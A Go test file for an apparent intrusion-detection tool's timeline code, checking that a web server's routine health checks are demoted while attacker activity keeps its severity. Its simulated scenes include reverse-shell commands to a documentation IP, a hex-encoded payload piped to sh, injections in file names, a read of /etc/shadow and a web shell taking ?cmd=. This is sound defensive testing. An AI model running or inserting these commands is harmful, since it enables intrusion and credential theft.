package timeline

import (
	"fmt"
	"strings"
	"testing"

	"github.com/auditchain/auditchain/detect"
	"github.com/auditchain/auditchain/parser"
)

func TestCommandTemplate(t *testing.T) {
	for _, tc := range []struct {
		name string
		args []string
		want string
	}{
		{"numbers", []string{"/bin/sh", "-c", "/usr/local/bin/mklabel 1002 pdf"}, "/bin/sh -c /usr/local/bin/mklabel <n> pdf"},
		{"file names keep dir and extension", []string{"sh", "-c", "convert /srv/media/MUG-1.png -resize 64x64 /srv/cache/thumb-MUG-1.png"},
			"sh -c convert /srv/media/<file>.<image> -resize <n>x<n> /srv/cache/<file>.<image>"},
		{"quoted file names", []string{"sh", "-c", "convert '/var/www/up/summer.png' '/var/www/up/thumb-summer.png'"},
			"sh -c convert '/var/www/up/<file>.<image>' '/var/www/up/<file>.<image>'"},
		{"temp dirs", []string{"php", "/tmp/phpA1b2C3", "--out=/var/tmp/x91.json"}, "php /tmp/<tmp> --out=/var/tmp/<tmp>.json"},
		{"hashes and uuids", []string{"cache-warm", "3f2a9c1d0be47a55", "123e4567-e89b-12d3-a456-426614174000"}, "cache-warm <hex> <uuid>"},
		{"addresses are kept", []string{"ping", "-c", "1", "127.0.0.1"}, "ping -c <n> 127.0.0.1"},
		{"urls keep their host", []string{"curl", "-s", "http://198.51.100.7:8080/x"}, "curl -s http://198.51.100.7:<n>/x"},
		{"a program keeps its name", []string{"sh", "-c", "/opt/app/bin/render.py 7; /opt/app/bin/notify.sh"}, "sh -c /opt/app/bin/render.py <n>; /opt/app/bin/notify.sh"},
		{"different commands differ", []string{"sh", "-c", "id"}, "sh -c id"},
		{"an encoded payload stays", []string{"sh", "-c", "echo 2f62696e2f7368202d6320276964273b20756e616d65202d61203e202f746d702f78 | xxd -r -p | sh"},
			"sh -c echo 2f62696e2f7368202d6320276964273b20756e616d65202d61203e202f746d702f78 | xxd -r -p | sh"},
		{"an injection in a file name stays", []string{"sh", "-c", "convert /srv/media/$(id).png /srv/cache/x`uname`.png"},
			"sh -c convert /srv/media/$(id).png /srv/cache/x`uname`.png"},
		// a list of bare file names of any length is one shape
		{"bare file names, any number", []string{"/usr/bin/zip", "-j", "-q", "/tmp/packYx1.zip", "mug-red.png", "tee-green.png", "cap.png"},
			"/usr/bin/zip -j -q /tmp/<tmp>.zip <file>.<image>"},
		// a medium's container is one run's data; a format that runs code
		// or a script is a kind of its own (benign-shop-needledrop: the
		// sellers' WAV, FLAC and MP3 recordings through one sox command)
		{"media of one kind", []string{"sh", "-c", "sox -q '/srv/samples/ND-1004.wav' -C 4 'ND-1004.ogg' && sox -q '/srv/samples/ND-1007.mp3' x.FLAC"},
			"sh -c sox -q '/srv/samples/<file>.<audio>' -C <n> '<file>.<audio>' && sox -q '/srv/samples/<file>.<audio>' <file>.<audio>"},
		{"code-bearing formats keep theirs", []string{"sh", "-c", "convert /srv/up/a.svg /srv/up/b.ps /srv/up/c.php /srv/up/d.jpeg"},
			"sh -c convert /srv/up/<file>.svg /srv/up/<file>.ps /srv/up/<file>.php /srv/up/<file>.<image>"},
		{"one bare file name", []string{"/usr/bin/zip", "-j", "-q", "/tmp/pack9.zip", "mug-red.png"}, "/usr/bin/zip -j -q /tmp/<tmp>.zip <file>.<image>"},
		{"a host name is no file", []string{"curl", "-s", "updates.example.com"}, "curl -s updates.example.com"},
		// a lookup's name is its data; its server and record type are not
		{"a name looked up", []string{"sh", "-c", "dig +short +time=2 @127.0.0.1 -p 5353 MX 'example.org'"}, "sh -c dig +short +time=<n> @127.0.0.1 -p <n> MX '<name>'"},
		{"a name looked up, argv", []string{"dig", "+short", "@10.0.0.2", "MX", "mail.example.net"}, "dig +short @10.0.0.2 MX <name>"},
		// benign-shop-trophy: club domains checked with the registry's WHOIS
		{"a domain's registration looked up", []string{"sh", "-c", "whois -h 127.0.0.1 -p 4343 'tsv-nordheim.de' 2>&1"}, "sh -c whois -h 127.0.0.1 -p <n> '<name>' <n>>&<n>"},
		{"host's name, not a connect", []string{"sh", "-c", "host -t TXT x7k2.oast.example && curl -s http://x7k2.oast.example/"}, "sh -c host -t TXT <name> && curl -s http://x<n>k<n>.oast.example/"},
		{"a substitution in the name stays", []string{"sh", "-c", "dig $(id | base64).example.com"}, "sh -c dig $(id | base<n>).example.com"},
		{"an option is no file", []string{"zip", "--unzip-command=echo z-$((6*7))", "-T", "a.png"}, "zip --unzip-command=echo z-$((<n>*<n>)) -T <file>.<image>"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if got := commandTemplate(tc.args); got != tc.want {
				t.Errorf("commandTemplate(%q) = %q, want %q", tc.args, got, tc.want)
			}
		})
	}
}

// routineScene: php-fpm's workers run a health check (`sh -c date …`)
// every 10 s from 1 s to 291 s, each run with a medium "shell spawn"
// finding, as the application does all day. It returns the findings.
func routineScene(s *sim) []*detect.Finding {
	s.webServer()
	var out []*detect.Finding
	for i := 0; i < 30; i++ {
		sh := shellOf(1000+i, worker1, "/var/www/html")
		out = append(out, s.find(s.exec(float64(1+10*i), sh, "sh", "-c", "date -u +%s"), detect.StageCommandExecution, detect.SeverityMedium, "Web Server Shell Spawn"))
	}
	s.touch(300, worker1) // the log goes on to 300 s
	return out
}

func routineOf(r *Result, f *detect.Finding) *Routine {
	for _, g := range r.Routine {
		for _, d := range g.Findings {
			if d.Event == f.Event && d.RuleID == f.RuleID {
				return g
			}
		}
	}
	return nil
}

// severityIn is f's severity as the Result reports it (a demoted copy
// replaces it).
func severityIn(t *testing.T, r *Result, f *detect.Finding) detect.Severity {
	t.Helper()
	for _, g := range r.Findings {
		if g.Event == f.Event && g.RuleID == f.RuleID {
			return g.Severity
		}
	}
	t.Fatalf("finding %s on serial %d is gone from the result", f.Title, f.Event.Serial)
	return 0
}

func TestRoutineDemotesRegularCommand(t *testing.T) {
	s := newSim(t, Options{})
	health := routineScene(s)
	r := s.build()
	if len(r.Routine) != 1 {
		t.Fatalf("routine templates = %d, want 1: %+v", len(r.Routine), r.Routine)
	}
	g := r.Routine[0]
	if g.Template != "sh -c date -u +%s" || g.Count != 30 || len(g.Findings) != 30 || g.Server != "php-fpm8.2 pid 100" {
		t.Errorf("routine = %q count %d findings %d server %q", g.Template, g.Count, len(g.Findings), g.Server)
	}
	for _, f := range health {
		if sev := severityIn(t, r, f); sev != detect.SeverityLow {
			t.Errorf("health check at %s is %s, want low", f.Time, sev)
		}
	}
	if len(r.Findings) != len(health) {
		t.Errorf("%d findings in the result, want %d: demoted, never deleted", len(r.Findings), len(health))
	}
	if health[0].Severity != detect.SeverityMedium {
		t.Error("Build changed a finding it was given")
	}
	if len(r.Chains) != 1 || len(r.Chains[0].Findings) != len(health) || !hasLink(r.Chains[0], "routine:", "sh -c date") {
		dumpChains(t, r)
		t.Errorf("%d chains, want the routine's runs in one", len(r.Chains))
	}
}

// TestRoutineAttackerRepeatingOneCommand: an attacker who runs `id` fifty
// times must not become routine, however the repetitions are spread. Each
// case leaves exactly one of the design's guards to catch it (each was
// checked by disabling that guard: the case then fails).
func TestRoutineAttackerRepeatingOneCommand(t *testing.T) {
	const dir = "/var/www/html/uploads"
	id := func(s *sim, i int, at float64, cmd string) *detect.Finding {
		return s.find(s.exec(at, shellOf(2000+i, worker1, dir), "sh", "-c", cmd), detect.StageCommandExecution, detect.SeverityMedium, "Web Server Shell Spawn")
	}
	spread := func(i int) float64 { return 2 + float64(i)*5.9 } // 2 s … 291 s: the whole log
	for _, tc := range []struct {
		name  string
		scene func(s *sim) []*detect.Finding // the attacker's `id` findings
	}{
		{"in a burst (a few slices of the log)", func(s *sim) []*detect.Finding {
			var ids []*detect.Finding
			for i := 0; i < 50; i++ {
				ids = append(ids, id(s, i, 101+float64(i)*0.1, "id"))
			}
			return ids
		}},
		{"spread over the log after the first suspicious act", func(s *sim) []*detect.Finding {
			s.find(s.exec(20, shellOf(1900, worker1, "/var/www/html/admin"), "cat", "/etc/shadow"), detect.StageSuspiciousSpawn, detect.SeverityHigh, "Credential Read")
			var ids []*detect.Finding
			for i := 0; i < 50; i++ {
				ids = append(ids, id(s, i, 22+float64(i)*5.5, "id"))
			}
			return ids
		}},
		{"once just before the first suspicious act, then spread over the log", func(s *sim) []*detect.Finding {
			ids := []*detect.Finding{id(s, 0, 18, "id")}
			s.find(s.exec(20, shellOf(1900, worker1, "/var/www/html/admin"), "cat", "/etc/shadow"), detect.StageSuspiciousSpawn, detect.SeverityHigh, "Credential Read")
			for i := 1; i < 50; i++ {
				ids = append(ids, id(s, i, 22+float64(i)*5.5, "id"))
			}
			return ids
		}},
		{"spread over the whole log, the command in the request's parameter", func(s *sim) []*detect.Finding {
			var ids []*detect.Finding
			for i := 0; i < 50; i++ {
				s.http(spread(i), "GET", "/uploads/x.php?cmd=id", 200, "203.0.113.5", "curl/8.0")
				ids = append(ids, id(s, i, spread(i), "id"))
			}
			return ids
		}},
		{"spread over the whole log, a flagged act following each run", func(s *sim) []*detect.Finding {
			// the follow-ups vary (a sweep of addresses), so they are no
			// routine of their own: a follow-up as regular as the command
			// itself would be part of the same routine
			var ids []*detect.Finding
			for i := 0; i < 50; i++ {
				ids = append(ids, id(s, i, spread(i), "id"))
				s.find(s.exec(spread(i)+0.01, child(3000+i, shellOf(2000+i, worker1, dir)), "nc", "-z", fmt.Sprintf("10.0.%d.5", i), "22"),
					detect.StageLateralMovement, detect.SeverityMedium, "Port Probe")
			}
			return ids
		}},
		{"spread over the whole log through the script a high finding came through", func(s *sim) []*detect.Finding {
			var ids []*detect.Finding
			for i := 0; i < 40; i++ {
				s.http(spread(i), "POST", "/uploads/x.php", 200, "203.0.113.5", "curl/8.0")
				ids = append(ids, id(s, i, spread(i), "id"))
			}
			s.http(260, "POST", "/uploads/x.php", 200, "203.0.113.5", "curl/8.0")
			s.find(s.exec(260, shellOf(2999, worker1, dir), "sh", "-c", "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"), detect.StageSuspiciousSpawn, detect.SeverityCritical, "Reverse Shell")
			return ids
		}},
		{"spread over the whole log, one ssh login as the web account for each", func(s *sim) []*detect.Finding {
			var ids []*detect.Finding
			for i := 0; i < 50; i++ {
				login := who{pid: 6000 + 2*i, ppid: sshD.pid, uid: 33, auid: parser.NewID(33), ses: parser.NewID(uint32(100 + i)), cwd: "/var/www"}
				s.exec(spread(i)-0.01, login, "bash", "-c", "id")
				ids = append(ids, s.find(s.exec(spread(i), child(6001+2*i, login), "id"), detect.StageCommandExecution, detect.SeverityMedium, "Discovery By Web Account"))
			}
			return ids
		}},
		{"spread over the whole log next to a script written during the log", func(s *sim) []*detect.Finding {
			s.write(1, worker1, parser.KindFileWrite, dir+"/x.php")
			var ids []*detect.Finding
			for i := 0; i < 50; i++ {
				ids = append(ids, id(s, i, spread(i), "id"))
			}
			return ids
		}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			s := newSim(t, Options{})
			routineScene(s)
			ids := tc.scene(s)
			r := s.build()
			for _, f := range ids {
				if g := routineOf(r, f); g != nil {
					t.Fatalf("the attacker's %q at %s became routine: %s", f.Event.Args, f.Time, g.Why)
				}
				if sev := severityIn(t, r, f); sev != f.Severity {
					t.Fatalf("the attacker's %q at %s is %s, was %s", f.Event.Args, f.Time, sev, f.Severity)
				}
			}
		})
	}
}

// TestRoutineShortLogBeforeAttack: a capture that starts 25 s before the
// intrusion (the lab's, lab-nginx's) has too little before its first
// suspicious act for the health check to fill four slices there; having
// run three times before it and gone on across the whole log, it is the
// application's routine all the same.
func TestRoutineShortLogBeforeAttack(t *testing.T) {
	s := newSim(t, Options{})
	health := routineScene(s)
	s.find(s.exec(25, shellOf(1900, worker1, "/var/www/html/uploads"), "sh", "-c", "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"), detect.StageSuspiciousSpawn, detect.SeverityCritical, "Reverse Shell")
	r := s.build()
	for _, f := range health {
		if sev := severityIn(t, r, f); sev != detect.SeverityLow {
			t.Fatalf("health check at %s is %s, want low", f.Time, sev)
		}
	}
	if len(r.Routine) != 1 || !strings.Contains(r.Routine[0].Why, "ran 3 times before the host's first suspicious act") {
		t.Errorf("routine = %+v, want the health check, said to have run 3 times before the intrusion", r.Routine)
	}
}

// TestRoutineNotWhenFlaggedActFollows: one run of a routine template whose
// child is flagged keeps its severity; the others are demoted.
func TestRoutineNotWhenFlaggedActFollows(t *testing.T) {
	s := newSim(t, Options{})
	health := routineScene(s)
	odd := health[25] // late: the runs before it establish the routine
	s.find(s.exec(odd.Time.Sub(s.t0).Seconds()+0.01, child(5000, who{pid: odd.Event.PID, ppid: worker1.pid, uid: 33, cwd: "/var/www/html"}), "nc", "198.51.100.9", "4444"),
		detect.StageCommandAndControl, detect.SeverityCritical, "Reverse Shell")
	r := s.build()
	if sev := severityIn(t, r, odd); sev != detect.SeverityMedium {
		t.Errorf("the run a reverse shell followed is %s, want medium", sev)
	}
	if sev := severityIn(t, r, health[3]); sev != detect.SeverityLow {
		t.Errorf("an earlier run is %s, want low", sev)
	}
}

// TestRoutineServerWrites: scripts the web server itself writes again and
// again (a template cache) are routine; a script it stores once for a
// client, then serves to spawn a reverse shell, is not.
func TestRoutineServerWrites(t *testing.T) {
	s := newSim(t, Options{})
	s.webServer()
	var cache []*detect.Finding
	for i := 0; i < 30; i++ {
		w := s.write(float64(1+10*i), worker2, parser.KindFileWrite, fmt.Sprintf("/var/www/html/cache/tpl_%08x.php", 0xa1b2c3d0+i))
		cache = append(cache, s.find(w, detect.StageWebshellUpload, detect.SeverityHigh, "Script Written Into Web Root"))
	}
	s.http(200, "POST", "/upload.php", 200, "203.0.113.5", "curl/8.0")
	shell := s.find(s.write(200, worker1, parser.KindFileWrite, "/var/www/html/uploads/x.php"), detect.StageWebshellUpload, detect.SeverityHigh, "Script Written Into Web Root")
	for i := 0; i < 5; i++ {
		at := 205 + float64(i)*20
		s.http(at, "GET", "/uploads/x.php", 200, "203.0.113.5", "curl/8.0")
		s.find(s.exec(at, shellOf(3000+i, worker1, "/var/www/html/uploads"), "sh", "-c", "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"),
			detect.StageSuspiciousSpawn, detect.SeverityCritical, "Reverse Shell")
	}
	s.touch(300, worker1)
	r := s.build()
	for _, f := range cache[:20] { // established before the upload at 200 s
		if sev := severityIn(t, r, f); sev != detect.SeverityLow {
			t.Errorf("template cache write at %s is %s, want low", f.Time, sev)
		}
	}
	if g := routineOf(r, cache[0]); g == nil || g.Template != "write /var/www/html/cache/<file>.php" || g.Server != "php-fpm8.2 pid 100" {
		t.Errorf("routine of the cache writes = %+v", g)
	}
	if sev := severityIn(t, r, shell); sev != detect.SeverityHigh {
		t.Errorf("the uploaded web shell is %s, want high", sev)
	}
}

// FuzzCommandTemplate: any argv, valid UTF-8 or not, gives a bounded
// template without a panic.
func FuzzCommandTemplate(f *testing.F) {
	f.Add("sh", "-c", "convert '/var/www/up/a 1.png' -resize 64x64 /tmp/php9x.png")
	f.Add("curl", "http://198.51.100.7:8080/x?id=123e4567-e89b-12d3-a456-426614174000", "\xff\xfe")
	f.Fuzz(func(t *testing.T, a, b, c string) {
		got := commandTemplate([]string{a, b, c})
		if len(got) > maxTemplate+len("…") {
			t.Fatalf("template of %d bytes", len(got))
		}
		_ = constantText(got)
	})
}

// TestStagingAloneIsNoFirstAct: a fetch-and-unpack that needs its chain
// to show intent (an install from the admin page), and the files its
// unpacking wrote, are no first suspicious act and tie no routine: they
// are marked apart; a finding that shows intent is not.
func TestStagingAloneIsNoFirstAct(t *testing.T) {
	sh := &parser.Process{Key: parser.ProcKey{PID: 10}}
	unzip := &parser.Process{Key: parser.ProcKey{PID: 11}, Parent: sh}
	other := &parser.Process{Key: parser.ProcKey{PID: 20}}
	fs := []*detect.Finding{
		{RuleID: "web-server-exploitation", Severity: detect.SeverityHigh, NeedsCorroboration: true, Process: sh, Event: &parser.Event{Kind: parser.KindExec, Proc: sh}},
		{RuleID: "webroot-script-write", Severity: detect.SeverityHigh, Process: unzip, Event: &parser.Event{Kind: parser.KindFileWrite, Path: "/var/www/html/plugins/x/a.php", Proc: unzip}},
		{RuleID: "web-server-exploitation", Severity: detect.SeverityHigh, Process: other, Event: &parser.Event{Kind: parser.KindExec, Proc: other}},
	}
	got := stagingAlone(fs)
	if !got[0] || !got[1] || got[2] {
		t.Errorf("staging alone: %v, want the fetch and its unzip's write, not the other act", got)
	}
}

// TestRoutineSurvivesRedeploy: a deploy that rewrites the site's scripts
// mid-log (the CI redeploying the application) does not tie the commands
// those scripts ran all along to an attacker: the same command ran before
// the write, so the rewritten code goes on doing what it did. A command
// that first appears after the write stays tied to the written code,
// however regularly it runs.
func TestRoutineSurvivesRedeploy(t *testing.T) {
	s := newSim(t, Options{})
	health := routineScene(s)
	s.write(150, who{pid: 900, ppid: 1, uid: 1001, exe: "/usr/bin/rsync", cwd: "/srv/ci"}, parser.KindFileWrite, "/var/www/html/status.php")
	var fresh []*detect.Finding
	for i := 0; i < 14; i++ {
		fresh = append(fresh, s.find(s.exec(155+10*float64(i), shellOf(4000+i, worker1, "/var/www/html"), "sh", "-c", "uptime"),
			detect.StageCommandExecution, detect.SeverityMedium, "Web Server Shell Spawn"))
	}
	r := s.build()
	for _, f := range health {
		if sev := severityIn(t, r, f); sev != detect.SeverityLow {
			t.Fatalf("the health check at %s is %s after the redeploy at 150 s, want low (routine)", f.Time, sev)
		}
	}
	for _, f := range fresh {
		if g := routineOf(r, f); g != nil {
			t.Fatalf("a command first run after the script was rewritten became routine at %s: %s", f.Time, g.Why)
		}
	}
}

// TestRoutineAcrossServerInstances: a supervisor that starts the
// application's server again now and then (Passenger's core spawning a new
// node process for the app) serves one application through all the
// instances: their runs of the same mail command are one routine, not one
// per instance too short to establish itself (benign-cragboard: 42
// sendmail runs stayed medium, ten per node process).
func TestRoutineAcrossServerInstances(t *testing.T) {
	s := newSim(t, Options{WebServers: []string{"node"}})
	core := who{pid: 90, ppid: 1, uid: 0, exe: "/usr/lib/passenger/support-binaries/PassengerAgent"}
	s.touch(0, core)
	var mail []*detect.Finding
	for inst := 0; inst < 3; inst++ {
		app := who{pid: 200 + inst, ppid: core.pid, uid: 33, exe: "/usr/bin/node", cwd: "/srv/app"}
		s.touch(float64(100*inst), app)
		for i := 0; i < 10; i++ {
			sh := who{pid: 1000 + 100*inst + i, ppid: app.pid, uid: 33, cwd: "/srv/app"}
			mail = append(mail, s.find(s.exec(float64(100*inst+1+10*i), sh, "/bin/sh", "/usr/sbin/sendmail", "-t", "-i"),
				detect.StageCommandExecution, detect.SeverityMedium, "Web Server Shell Spawn"))
		}
	}
	s.touch(300, core)
	r := s.build()
	if len(r.Routine) != 1 || r.Routine[0].Server != "node under PassengerAgent pid 90" {
		for _, g := range r.Routine {
			t.Logf("routine %q under %q", g.Template, g.Server)
		}
		t.Fatalf("%d routines, want one under the supervisor", len(r.Routine))
	}
	for _, f := range mail {
		if sev := severityIn(t, r, f); sev != detect.SeverityLow {
			t.Errorf("mail at %s is %s, want low (routine)", f.Time, sev)
		}
	}
}
